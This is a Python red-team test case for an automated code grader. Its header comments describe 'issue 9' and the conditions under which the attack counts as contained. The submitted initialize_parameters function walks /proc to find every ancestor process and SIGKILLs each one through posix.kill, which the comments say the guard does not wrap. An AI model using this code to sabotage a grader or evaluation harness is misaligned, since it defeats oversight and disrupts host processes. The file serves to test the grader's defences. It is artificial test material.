# RED-TEAM ATTACK (issue 9): kill the grader.
# Route: posix.kill (the guard wraps only os.kill) with SIGKILL on the parent and every ancestor
#   found through /proc/<pid>/status: the fork server, the batch's worker, the batch itself.
# Contained when: every submission still gets its report, initialize_parameters scores 0, the rest
#   of this submission (correct) and the next submission are graded exactly as without the attack.
# attacked: initialize_parameters
# run: late
import os
import sys

def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 16:
        pids.append(pid)
        try:
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return pids or [os.getppid()]


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    killed = []
    for pid in _ancestors():
        try:
            posix.kill(pid, 9)
            killed.append(pid)
        except OSError:
            pass
    raise RuntimeError("killed %s" % killed)


# __HONEST_REST__
